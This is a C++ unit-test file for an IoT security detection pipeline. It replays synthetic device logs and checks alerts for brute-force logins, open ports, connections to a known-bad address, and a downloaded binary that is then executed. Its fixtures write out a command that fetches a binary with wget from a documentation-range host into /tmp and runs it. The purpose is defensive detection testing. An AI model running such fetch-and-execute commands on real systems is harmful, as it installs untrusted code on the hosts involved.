// Recorded input in, findings out; and the guarantee that how the log is cut into runs changes nothing.
#include "pipeline/offline.hpp"

#include <gtest/gtest.h>

#include <array>
#include <sstream>

#include "base/json_text.hpp"
#include "pipeline/shard_core.hpp"

namespace fieldwatch::pipeline {
namespace {

detect::ContentPtr content(std::string settings = "{}") {
    detect::ContentSources sources;
    sources.settings_json = std::move(settings);
    sources.indicator_files = {
        {"bad.csv", "type,value,category,confidence,source\nipv4,198.51.100.9,botnet,90,feed\n"}};
    auto compiled = detect::compile(sources);
    EXPECT_TRUE(compiled.has_value());
    return compiled.value();
}

constexpr std::int64_t kFirst = 1'800'000'000;

std::string event_json(int number, std::int64_t at, std::string_view name, std::string_view payload,
                       std::string_view category, bool empty) {
    std::string out;
    JsonWriter json(out);
    char id[40];
    std::snprintf(id, sizeof id, "00000000-0000-0000-0000-%012d", number);
    const auto time = to_iso8601(Timestamp::from_unix_seconds(at), 3);
    json.begin_object()
        .member("Id", id)
        .member("TimestampLocal", time)
        .member("TimestampUTC", time)
        .member("Category", category)
        .member("Name", name)
        .member("EventType", "Security");
    json.key("IsEmpty").boolean(empty);
    json.member("PayloadSchemaVersion", "1.0")
        .key("Payload")
        .raw(std::string("[").append(payload).append("]"));
    json.end_object();
    return out;
}

std::string body_of(const std::string& event) {
    return R"({"AgentVersion":"1.0.0","AgentId":"aaaaaaaa-2222-3333-4444-555555555555","MessageSchemaVersion":"1.0","Events":[)" +
           event + "]}";
}

/// Builds recorded input whose records are received a second after their events.
class Log {
  public:
    Log& event(std::int64_t after, std::string_view name, std::string_view payload,
               std::string_view category = "Triggered", bool empty = false, std::int64_t delay = 1) {
        return message(after + delay,
                       body_of(event_json(++number_, kFirst + after, name, payload, category, empty)));
    }
    Log& login(std::int64_t after, std::string_view user, std::string_view address, std::string_view result) {
        std::string payload;
        JsonWriter json(payload);
        json.begin_object()
            .member("ProcessId", static_cast<std::int64_t>(100 + number_))
            .member("UserName", user)
            .member("Operation", "login")
            .member("Executable", "/usr/sbin/sshd")
            .member_if("RemoteAddress", address)
            .member("Result", result)
            .end_object();
        return event(after, "Login", payload);
    }
    Log& ports(std::int64_t after, std::string_view payloads) {
        return event(after, "ListeningPorts", payloads, "Periodic", payloads.empty());
    }
    Log& process(std::int64_t after, std::string_view line, std::string_view executable) {
        std::string payload;
        JsonWriter(payload)
            .begin_object()
            .member("Executable", executable)
            .member("ProcessId", 7)
            .member("ParentProcessId", 1)
            .member("UserId", "0")
            .member("CommandLine", line)
            .end_object();
        return event(after, "ProcessCreate", payload);
    }
    Log& message(std::int64_t after, const std::string& body) {
        std::string line;
        JsonWriter(line)
            .begin_object()
            .member("time", to_iso8601(Timestamp::from_unix_seconds(kFirst + after)))
            .member("hub", "h")
            .member("device", "d")
            .member("module", "azureiotsecurity")
            .member("kind", "security-message")
            .key("body")
            .raw(body)
            .end_object();
        lines_.push_back(line);
        bodies_.push_back({Timestamp::from_unix_seconds(kFirst + after), body});
        return *this;
    }

    std::vector<std::string> findings(std::string settings = "{}") const {
        std::string text;
        for (const auto& line : lines_)
            text += line + "\n";
        std::istringstream input(text);
        std::vector<std::string> out;
        const auto report = run_offline(std::array<std::istream*, 1>{&input}, content(std::move(settings)),
                                        {}, [&](std::string_view line) { out.emplace_back(line); });
        EXPECT_TRUE(report.has_value());
        // That the device is new says every log here; tests/golden/detect looks at it.
        std::erase_if(out, [](const auto& f) { return f.find("\"IoT_DeviceOnboarded\"") != f.npos; });
        return out;
    }
    const std::vector<std::pair<Timestamp, std::string>>& bodies() const { return bodies_; }

  private:
    std::vector<std::string> lines_;
    std::vector<std::pair<Timestamp, std::string>> bodies_;
    int number_ = 0;
};

std::size_t count(const std::vector<std::string>& findings, std::string_view text) {
    return static_cast<std::size_t>(std::count_if(findings.begin(), findings.end(),
                                                  [&](const auto& f) { return f.find(text) != f.npos; }));
}

Log& failures(Log& log, int number, std::int64_t from = 0) {
    for (int i = 0; i < number; ++i)
        log.login(from + i * 3, "root", "203.0.113.5", "Fail");
    return log;
}

TEST(Offline, RaisesABruteForceThatSucceeded) {
    Log log;
    failures(log, 20).login(70, "root", "203.0.113.5", "Success");
    const auto found = log.findings();
    ASSERT_EQ(count(found, "IoT_Bruteforce_Success"), 1u);
    EXPECT_EQ(count(found, "IoT_Bruteforce_Fail"), 0u);
    EXPECT_NE(found[0].find(R"("HitCount":20)"), std::string::npos) << found[0];
}

TEST(Offline, RaisesAFailedBruteForceOnceItsWindowHasPassed) {
    Log log;
    EXPECT_EQ(count(failures(log, 20).findings(), "IoT_Bruteforce_Fail"), 1u);
}

TEST(Offline, HidesNoBruteForceBehindOtherAddresses) {
    Log log;
    failures(log, 20);
    for (int i = 0; i < 70; ++i)
        log.login(60, "root", "2001:db8::" + std::to_string(i + 1), "Fail");
    log.login(90, "root", "203.0.113.5", "Success");
    const auto found = log.findings();
    EXPECT_EQ(count(found, "IoT_Bruteforce_Success"), 1u);
}

TEST(Offline, RaisesOneFailedBruteForceForMoreAddressesThanItKeeps) {
    Log log;
    for (int round = 0; round < 4; ++round)
        for (int i = 0; i < 80; ++i)
            log.login(round * 40 + i / 4, "user" + std::to_string(i), "198.51.100." + std::to_string(i + 1),
                      "Fail");
    const auto found = log.findings();
    ASSERT_EQ(count(found, "IoT_Bruteforce_Fail"), 1u);
    const auto& alert = *std::find_if(found.begin(), found.end(), [](const auto& one) {
        return one.find("IoT_Bruteforce_Fail") != one.npos;
    });
    EXPECT_EQ(alert.find("many addresses"), alert.npos) << "no address of its own: " << alert;
}

TEST(Offline, LetsThreeFailuresBe) {
    Log log;
    EXPECT_TRUE(failures(log, 3).findings().empty());
}

TEST(Offline, WeighsAnAggregateByItsHitCount) {
    Log log;
    log.event(
        60, "Login",
        R"({"ProcessId":0,"UserName":"root","Operation":"login","Executable":"/s","RemoteAddress":"203.0.113.5","Result":"Fail",)"
        R"("ExtraDetails":{"HitCount":"25","StartTimeUtc":"2027-01-15T08:00:00Z","EndTimeUtc":"2027-01-15T08:01:00Z"}})");
    EXPECT_EQ(count(log.findings(), "IoT_Bruteforce_Fail"), 1u);
}

TEST(Offline, CountsRepeatedLocalLoginsInOneAlertWithinTheHour) {
    Log log;
    log.login(0, "pi", "", "Success").login(600, "pi", "", "Success").login(4'000, "pi", "", "Success");
    const auto found = log.findings();
    ASSERT_EQ(count(found, "IoT_SucessfulLocalLogin"), 2u);
    EXPECT_NE(found[0].find(R"("HitCount":2)"), std::string::npos);
    EXPECT_NE(found[0].find(R"("Evidence":[1,2])"), std::string::npos);
}

TEST(Offline, DropsAnEventThatArrivesTwice) {
    Log log;
    log.login(0, "pi", "", "Success");
    log.message(5, log.bodies()[0].second);
    EXPECT_NE(log.findings().at(0).find(R"("HitCount":1)"), std::string::npos);
}

TEST(Offline, KeepsWhatIsMoreThanThreeDaysLateOutOfDetection) {
    Log log;
    log.event(0, "Login",
              R"({"ProcessId":1,"UserName":"pi","Operation":"login","Executable":"/l","Result":"Success"})",
              "Triggered", false, 73 * 3'600);
    EXPECT_TRUE(log.findings().empty());
}

TEST(Offline, ClosesNoPortForAListThatWasCutShort) {
    Log log;
    log.ports(0, R"({"Protocol":"tcp","LocalPort":"8888","LocalAddress":"0.0.0.0"})");
    log.ports(
        10,
        R"({"Protocol":"tcp","LocalPort":"22","LocalAddress":"127.0.0.1","ExtraDetails":{"Truncated":"true"}})");
    const auto found = log.findings();
    ASSERT_EQ(found.size(), 1u);
    EXPECT_NE(found[0].find(R"("RecommendationState":"Active")"), std::string::npos);
}

TEST(Offline, OpensAndResolvesTheOpenPortsRecommendation) {
    Log log;
    log.ports(
        0,
        R"({"Protocol":"tcp","LocalPort":"8888","LocalAddress":"0.0.0.0"},{"Protocol":"tcp6","LocalPort":"80","LocalAddress":"::"},{"Protocol":"tcp","LocalPort":"22","LocalAddress":"127.0.0.1"})");
    log.ports(10, R"({"Protocol":"tcp","LocalPort":"22","LocalAddress":"127.0.0.1"})");
    const auto found = log.findings();
    ASSERT_EQ(found.size(), 2u);
    EXPECT_NE(found[0].find(R"("Endpoints":"[\"0.0.0.0:8888\",\"[::]:80\"]")"), std::string::npos)
        << found[0];
    EXPECT_NE(found[0].find(R"("RecommendationState":"Active")"), std::string::npos);
    EXPECT_NE(found[1].find(R"("RecommendationState":"Resolved")"), std::string::npos);
    Log empty;
    empty.ports(0, R"({"Protocol":"tcp","LocalPort":"22"})").ports(10, "");
    EXPECT_EQ(count(empty.findings(), "Resolved"), 1u);
    EXPECT_TRUE(empty.findings(R"({"allowedPorts":[22]})").empty());
}

TEST(Offline, FindsADownloadThatAnotherCommandRuns) {
    Log log;
    log.process(0, "wget http://198.51.100.7/x.bin -O /tmp/x.bin", "/usr/bin/wget")
        .process(60, "/tmp/x.bin --daemon", "/tmp/x.bin");
    EXPECT_EQ(count(log.findings(), "IoT_LinuxBackdoor"), 1u);
    Log late;
    late.process(0, "wget http://198.51.100.7/x.bin -O /tmp/x.bin", "/usr/bin/wget")
        .process(3'700, "/tmp/x.bin", "/tmp/x.bin");
    EXPECT_EQ(count(late.findings(), "IoT_LinuxBackdoor"), 0u);
}

TEST(Offline, NamesAConnectionToAKnownBadAddress) {
    Log log;
    log.event(
        0, "ConnectionCreate",
        R"({"RemoteAddress":"198.51.100.9","RemotePort":"23","Direction":"Out","Protocol":"tcp","ProcessId":1,"Executable":"/x"})");
    const auto found = log.findings();
    ASSERT_EQ(count(found, "IoT_TiConnection"), 1u);
    EXPECT_NE(found[0].find(R"("IndicatorCategory":"botnet")"), std::string::npos);
}

TEST(Offline, ReportsDeadLettersWithTheirRecord) {
    std::istringstream input(
        "not "
        "json\n{\"kind\":\"security-message\",\"time\":\"2026-01-01T00:00:00Z\",\"hub\":\"h\",\"device\":"
        "\"d\",\"body\":[]}\n");
    std::vector<std::string> out;
    ASSERT_TRUE(run_offline(std::array<std::istream*, 1>{&input}, content(), {},
                            [&](std::string_view line) { out.emplace_back(line); }));
    ASSERT_EQ(out.size(), 2u);
    EXPECT_TRUE(out[0].starts_with(R"({"kind":"dead-letter","record":1,)")) << out[0];
    EXPECT_TRUE(out[1].starts_with(R"({"kind":"dead-letter","record":2,)")) << out[1];
}

TEST(Offline, TakesAnArrayForItsElementsAndNumbersThem) {
    const std::string record =
        R"({"kind": "security-message", "time": "2026-01-01T00:00:00Z", "hub": "h",
            "device": "d", "body": []})";
    std::istringstream input("\n[" + record + ",\r\n\r\n" + record + ",7]\n");
    std::vector<std::string> out;
    const auto report = run_offline(std::array<std::istream*, 1>{&input}, content(), {},
                                    [&](std::string_view line) { out.emplace_back(line); });
    ASSERT_TRUE(report);
    EXPECT_EQ(report->records, 3u);
    ASSERT_EQ(out.size(), 3u);
    EXPECT_TRUE(out[0].starts_with(R"({"kind":"dead-letter","record":1,)")) << out[0];
    EXPECT_NE(out[1].find(R"("record":2,)"), std::string::npos) << out[1];
    EXPECT_NE(out[1].find(R"("DeviceId":"d")"), std::string::npos) << out[1];
    EXPECT_NE(out[2].find("an object is needed"), std::string::npos) << out[2];
}

/// A log with some of everything.
Log mixed_input() {
    Log log;
    failures(log, 12).login(40, "root", "203.0.113.5", "Success");
    failures(log, 15, 100);
    log.login(150, "pi", "", "Fail").login(155, "pi", "", "Fail").login(300, "pi", "", "Fail");
    log.ports(310, R"({"Protocol":"tcp","LocalPort":"8888"})").ports(320, "");
    log.process(330, "wget http://198.51.100.7/x.bin -O /tmp/x.bin", "/usr/bin/wget")
        .process(340, "/tmp/x.bin", "/tmp/x.bin");
    log.event(
        350, "ConnectionCreate",
        R"({"RemoteAddress":"198.51.100.9","RemotePort":"23","Direction":"Out","Protocol":"tcp","ProcessId":1,"Executable":"/x"})");
    log.message(360, "{}").message(1'500, log.bodies()[3].second).login(2'000, "pi", "", "Fail");
    return log;
}

std::vector<std::string> run_input(const Log& log, bool restore_each_time, Bytes* final_state = nullptr) {
    const auto compiled = content();
    const auto make = [&] {
        return std::make_unique<ShardCore>(
            compiled, "c", [&](std::string_view) -> Result<detect::ContentPtr> { return compiled; },
            ShardCore::Options{});
    };
    auto core = make();
    std::vector<std::string> out;
    std::uint64_t offset = 0;
    for (const auto& [time, body] : log.bodies()) {
        const model::RecordView record{.kind = model::RecordKind::SecurityMessage,
                                       .received = time,
                                       .hub = "h",
                                       .device = "d",
                                       .module = "m",
                                       .properties = {},
                                       .body = body};
        Outcome outcome;
        EXPECT_TRUE(core->process(record, {.partition = 0, .offset = offset++, .item = 0}, outcome));
        for (const auto& finding : outcome.findings)
            out.push_back(finding_json(finding));
        if (!restore_each_time) continue;
        Bytes state, again;
        core->save(state);
        core = make();
        const auto restored = core->restore(state);
        EXPECT_TRUE(restored.has_value()) << restored.error().message;
        core->save(again);
        EXPECT_EQ(state, again);
    }
    if (final_state != nullptr) core->save(*final_state);
    return out;
}

TEST(ShardCore, FindsTheSameWhenItIsRestoredFromACheckpointAfterEveryRecord) {
    const auto log = mixed_input();
    Bytes straight, restored;
    const auto expected = run_input(log, false, &straight);
    EXPECT_GT(expected.size(), 8u);
    EXPECT_EQ(run_input(log, true, &restored), expected);
    EXPECT_EQ(straight, restored);
}

TEST(ShardCore, RefusesEveryCheckpointThatIsCutShort) {
    Bytes state;
    run_input(mixed_input(), false, &state);
    const auto compiled = content();
    for (std::size_t size = 0; size < state.size(); size += 7) {
        ShardCore core(compiled, "c",
                       [&](std::string_view) -> Result<detect::ContentPtr> { return compiled; }, {});
        EXPECT_FALSE(core.restore(ByteView(state).first(size))) << size;
    }
}

/// Operations that came of one record of the registry's outbox.
std::size_t apply_change(ShardCore& core, std::uint64_t offset, std::string_view sequence,
                         model::RecordKind kind = model::RecordKind::ControlPlane) {
    model::RecordView record{.kind = kind,
                             .received = Timestamp::from_unix_seconds(kFirst),
                             .hub = "h",
                             .device = {},
                             .module = {},
                             .properties = {},
                             .body = R"({"operationName":"x","resultType":"Success"})"};
    if (!sequence.empty()) record.properties.emplace_back("registry-sequence", sequence);
    Outcome outcome;
    EXPECT_TRUE(core.process(record, {.partition = 0, .offset = offset, .item = 0}, outcome));
    return outcome.operations.size();
}

TEST(ShardCore, AppliesAChangeOfTheRegistryOnceThoughTheLogHoldsItTwice) {
    const auto compiled = content();
    const auto lookup = [&](std::string_view) -> Result<detect::ContentPtr> { return compiled; };
    ShardCore core(compiled, "c", lookup, {});
    EXPECT_EQ(apply_change(core, 0, "7"), 1u);
    EXPECT_EQ(apply_change(core, 1, "7"), 0u);
    EXPECT_EQ(apply_change(core, 2, "6"), 0u);
    EXPECT_EQ(apply_change(core, 3, ""), 1u);    // not from the registry
    EXPECT_EQ(apply_change(core, 4, "9x"), 1u);  // no number: nothing to compare
    EXPECT_EQ(core.losses().repeated_changes, 2u);

    Bytes state;
    core.save(state);
    ShardCore restored(compiled, "c", lookup, {});
    ASSERT_TRUE(restored.restore(state));
    EXPECT_EQ(apply_change(restored, 5, "7"), 0u);
    EXPECT_EQ(apply_change(restored, 6, "8"), 1u);
}

TEST(ShardCore, LeavesAPropertyOfTheSameNameToTheDevicesThatSetIt) {
    const auto compiled = content();
    ShardCore core(compiled, "c", [&](std::string_view) -> Result<detect::ContentPtr> { return compiled; },
                   {});
    EXPECT_EQ(apply_change(core, 0, "18446744073709551615", model::RecordKind::Operation), 1u);
    EXPECT_EQ(apply_change(core, 1, "1"), 1u);
}

/// What the clock of a device that is an hour behind makes of its messages, `seconds` apart.
std::size_t corrected_of(int messages, std::int64_t seconds) {
    EventTimes times;
    std::size_t corrected = 0;
    for (int i = 0; i < messages; ++i) {
        const auto received = Timestamp::from_unix_seconds(kFirst + i * seconds);
        model::Event event;
        event.device_time = received - std::chrono::hours(1);
        times.apply("h/d", received, {&event, 1});
        corrected += event.time == received;
        Bytes state, again;
        ByteWriter writer(state);
        times.save(writer);
        EventTimes restored;
        ByteReader reader(state);
        EXPECT_TRUE(restored.restore(reader));
        ByteWriter second(again);
        restored.save(second);
        EXPECT_EQ(again, state);
    }
    return corrected;
}

TEST(EventTimes, CorrectsAClockThatIsSlowForLongButNotWhatComesLateInOneGo) {
    EXPECT_EQ(corrected_of(10, 300), 3u);
    EXPECT_EQ(corrected_of(30, 2), 0u);
}

TEST(ShardCore, OpensAStateOfVersionOne) {
    const auto compiled = content();
    const auto lookup = [&](std::string_view) -> Result<detect::ContentPtr> { return compiled; };
    ShardCore core(compiled, "c", lookup, {});
    apply_change(core, 0, "");
    Bytes state, again;
    core.save(state);
    auto old = state;
    old[0] = std::byte{1};
    constexpr std::size_t kBehindCounters = 2 + 4 + 1 + 2 * 8 + 11 * 8;  // hash "c"
    old.erase(old.begin() + kBehindCounters, old.begin() + kBehindCounters + 16);
    std::size_t seen_operations = kBehindCounters;  // behind the sections of times and duplicates
    for (int section = 0; section < 2; ++section) {
        ByteReader size(ByteView(old).subspan(seen_operations));
        seen_operations += 4 + size.u32().value();
    }
    constexpr std::size_t kEmptySection = 4 + 4;  // its size, and a count of none
    constexpr std::size_t kNoFacts = 8 + 4;       // none repeated, of no partition
    old.erase(old.begin() + static_cast<std::ptrdiff_t>(seen_operations),
              old.begin() + static_cast<std::ptrdiff_t>(seen_operations + kEmptySection + kNoFacts));
    ShardCore restored(compiled, "c", lookup, {});
    ASSERT_TRUE(restored.restore(old));
    restored.save(again);
    EXPECT_EQ(again, state);
}

}  // namespace
}  // namespace fieldwatch::pipeline
